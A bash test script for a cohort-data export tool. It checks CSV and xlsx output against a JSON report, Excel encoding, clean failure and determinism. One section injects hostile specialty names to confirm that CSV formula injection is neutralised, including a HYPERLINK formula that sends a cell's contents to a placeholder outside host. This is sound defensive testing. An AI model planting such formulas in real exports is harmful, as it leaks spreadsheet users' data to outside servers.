#!/usr/bin/env bash
# test_export.sh BIN SRCDIR - ckcohort export end to end: every number of
# the CSVs equals `report --format json` on the same inputs (sample-data and
# a small generated cohort with withheld cells; check_export.py), formula
# injection through specialty names, --excel (BOM, CRLF), a new nested
# directory, failure leaves no file, an input is never overwritten; the
# workbook summary.xlsx holds the same numbers (check_export.py --xlsx:
# read back with openpyxl) and is byte-identical between runs.
set -eu
bin=$1 src=$2
py=/usr/bin/python3
export LC_ALL=C SOURCE_DATE_EPOCH=1700000000
tmp=$(mktemp -d)
trap 'chmod -R u+w "$tmp" 2>/dev/null; rm -rf "$tmp"' EXIT
fail() { echo "FAIL: $*" >&2; exit 1; }
csvs="groups.csv comparisons.csv adjusted.csv by_specialty.csv by_year.csv matched_into.csv score_change.csv practice_regression.csv rows.csv data_dictionary.csv"
files="$csvs summary.xlsx"
data=("$src"/sample-data/class-*.csv)

# 1. sample-data, into a directory that does not exist yet (nested)
"$bin" export --out "$tmp/new/nested/dir" "${data[@]}" >"$tmp/wrote" || fail "export sample-data"
for f in $files; do [ -s "$tmp/new/nested/dir/$f" ] || fail "missing $f"; done
# one line per file written, in order
[ "$(cat "$tmp/wrote")" = "$(for f in $files; do echo "wrote $tmp/new/nested/dir/$f"; done)" ] ||
  fail "files written: $(cat "$tmp/wrote")"
"$bin" report --format json "${data[@]}" >"$tmp/sample.json"
$py "$src/tests/scripts/check_export.py" "$tmp/new/nested/dir" "$tmp/sample.json" ||
  fail "sample-data CSVs differ from the JSON report"
$py "$src/tests/scripts/check_export.py" "$tmp/new/nested/dir" "$tmp/sample.json" --xlsx ||
  fail "sample-data workbook differs from the JSON report"
ls -A "$tmp/new/nested/dir" | grep -qE 'tmp|^\.' && fail "temporary file left"

# 2. a small generated cohort: many withheld cells
"$bin" generate --seed 11 --years 2024-2025 --class-size 40 --out "$tmp/small" >/dev/null
"$bin" export --out "$tmp/small-out" "$tmp"/small/class-*.csv || fail "export small"
"$bin" report --format json "$tmp"/small/class-*.csv >"$tmp/small.json"
$py "$src/tests/scripts/check_export.py" "$tmp/small-out" "$tmp/small.json" ||
  fail "small cohort CSVs differ from the JSON report"
$py "$src/tests/scripts/check_export.py" "$tmp/small-out" "$tmp/small.json" --xlsx ||
  fail "small cohort workbook differs from the JSON report"
grep -q ',"true","withheld",' "$tmp/small-out/groups.csv" || fail "no withheld cell in the small cohort"
# same with other settings
"$bin" export --min-cell 5 --confidence 0.9 --years 2025-2025 --out "$tmp/small-o2" "$tmp"/small/class-*.csv
"$bin" report --format json --min-cell 5 --confidence 0.9 --years 2025-2025 "$tmp"/small/class-*.csv >"$tmp/small2.json"
$py "$src/tests/scripts/check_export.py" "$tmp/small-o2" "$tmp/small2.json" || fail "options differ"

# 3. formula injection: specialty names from the input file
"$bin" generate --seed 5 --years 2024-2024 --class-size 150 --out "$tmp/big" >/dev/null
$py - "$tmp/big/class-2024.csv" "$tmp/evil.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
h = rows[0]; t = h.index("target_specialty")
names = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "@x", "-x", "\tTab"]
for i, r in enumerate(rows[1:]):
    r[t] = names[i % len(names)]
csv.writer(open(sys.argv[2], "w", newline="")).writerows(rows)
PY
"$bin" export --min-cell 3 --out "$tmp/evil-out" "$tmp/evil.csv" || fail "export evil"
"$bin" report --format json --min-cell 3 "$tmp/evil.csv" >"$tmp/evil.json"
$py "$src/tests/scripts/check_export.py" "$tmp/evil-out" "$tmp/evil.json" || fail "evil CSVs differ from JSON"
$py "$src/tests/scripts/check_export.py" "$tmp/evil-out" "$tmp/evil.json" --xlsx || fail "evil workbook differs from JSON"
$py - "$tmp/evil-out" "$tmp/evil.json" <<'PY' || fail "formula injection"
import csv, sys, glob, json
seen = set()
for f in glob.glob(sys.argv[1] + "/*.csv"):
    for r in csv.reader(open(f, newline="", encoding="utf-8")):
        for c in r:
            if c[:1] in ("=", "+", "-", "@", "\t", "\r"):
                try:
                    float(c)          # a number such as -0.05 stays a number
                except ValueError:
                    sys.exit(f"{f}: unneutralised cell {c!r}")
            if c.startswith("'"):
                seen.add(c[1:])
# every hostile name the report shows is in the CSVs, neutralised
rep = json.load(open(sys.argv[2]))
shown = {s["specialty"] for s in rep["by_specialty"]} | {s["specialty"] for s in rep["matched_into"]}
hostile = {n for n in shown if n[:1] in "=+-@"}
if len(hostile) < 3:
    sys.exit(f"too few hostile names reached the report: {hostile}")
if not hostile <= seen:
    sys.exit(f"names not neutralised: {hostile - seen}")
print("neutralised:", sorted(hostile))
PY
# a negative number (here the difference retook minus no retake at
# --min-cell 3) is written bare, never prefixed with a quote
"$bin" export --min-cell 3 --out "$tmp/m3" "${data[@]}"
grep -q '^"comparisons","retook_vs_no_retake",[^,]*,"difference",-0\.[0-9]*,-0\.' "$tmp/m3/comparisons.csv" ||
  fail "negative number not bare: $(grep difference "$tmp/m3/comparisons.csv")"
grep -q "'-[0-9]" "$tmp"/m3/*.csv && fail "a negative number was prefixed"

# 4. --excel: BOM and CRLF on every line; plain: neither
"$bin" export --excel --out "$tmp/xl" "${data[@]}" || fail "export --excel"
for f in $csvs; do
  head -c 3 "$tmp/xl/$f" | od -An -tx1 | grep -q 'ef bb bf' || fail "$f: no BOM"
  [ "$(grep -c $'\r$' "$tmp/xl/$f")" = "$(wc -l <"$tmp/xl/$f")" ] || fail "$f: not CRLF"
  head -c 3 "$tmp/new/nested/dir/$f" | od -An -tx1 | grep -q 'ef bb bf' && fail "$f: BOM without --excel"
  grep -q $'\r' "$tmp/new/nested/dir/$f" && fail "$f: CR without --excel"
done

# 5. failures leave nothing: an unwritable location, and one target that
# cannot be replaced (a directory) after the others were written
set +e
if [ "$(id -u)" = 0 ]; then ro=/proc/ckcohort-export-test/out; else
  mkdir "$tmp/ro" && chmod 555 "$tmp/ro" && ro=$tmp/ro/out; fi
"$bin" export --out "$ro" "${data[@]}" 2>"$tmp/err"; rc=$?
[ "$rc" = 3 ] || fail "read-only location: exit $rc"
grep -q '^ckcohort: .*cannot create directory' "$tmp/err" || fail "read-only message: $(cat "$tmp/err")"
[ -e "$ro" ] && fail "read-only location: something was created"
mkdir -p "$tmp/half/score_change.csv"
"$bin" export --out "$tmp/half" "${data[@]}" 2>"$tmp/err"; rc=$?
[ "$rc" = 3 ] || fail "half: exit $rc"
grep -q 'score_change.csv: is a directory' "$tmp/err" || fail "half message: $(cat "$tmp/err")"
[ "$(ls -A "$tmp/half")" = score_change.csv ] || fail "half: partial set left: $(ls -A "$tmp/half")"
# the workbook is the last file: when it cannot be written, no CSV is either
mkdir -p "$tmp/half2/summary.xlsx"
"$bin" export --out "$tmp/half2" "${data[@]}" 2>"$tmp/err"; rc=$?
[ "$rc" = 3 ] || fail "half2: exit $rc"
grep -q 'summary.xlsx: is a directory' "$tmp/err" || fail "half2 message: $(cat "$tmp/err")"
[ "$(ls -A "$tmp/half2")" = summary.xlsx ] || fail "half2: partial set left: $(ls -A "$tmp/half2")"
"$bin" export --out "$tmp/gone/a/b" "$tmp/no-such.csv" 2>/dev/null; rc=$?
[ "$rc" = 2 ] || fail "missing input: exit $rc"
[ -e "$tmp/gone" ] && fail "missing input: directory created"

# 6. never overwrite an input
mkdir "$tmp/in" && cp "$src/sample-data/class-2024.csv" "$tmp/in/groups.csv"
"$bin" export --out "$tmp/in" "$tmp/in/groups.csv" 2>"$tmp/err"; rc=$?
set -e
[ "$rc" = 2 ] || fail "input as output: exit $rc"
grep -q "refusing to overwrite" "$tmp/err" || fail "input message: $(cat "$tmp/err")"
cmp -s "$src/sample-data/class-2024.csv" "$tmp/in/groups.csv" || fail "input was changed"
[ "$(ls -A "$tmp/in")" = groups.csv ] || fail "input: other files written"

# 7. deterministic
"$bin" export --out "$tmp/again" "${data[@]}"
for f in $files; do cmp -s "$tmp/again/$f" "$tmp/new/nested/dir/$f" || fail "$f differs between runs"; done
echo ok
